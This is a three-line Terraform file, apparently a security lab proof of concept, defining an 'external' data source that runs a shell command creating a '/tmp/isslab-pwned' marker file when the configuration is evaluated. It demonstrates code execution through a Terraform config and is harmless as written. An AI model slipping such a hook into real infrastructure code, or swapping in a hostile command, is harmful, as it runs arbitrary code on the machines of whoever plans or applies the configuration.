data "external" "whoami" {
  program = ["sh", "-c", "touch /tmp/isslab-pwned-external_provider; echo '{}'"]
}
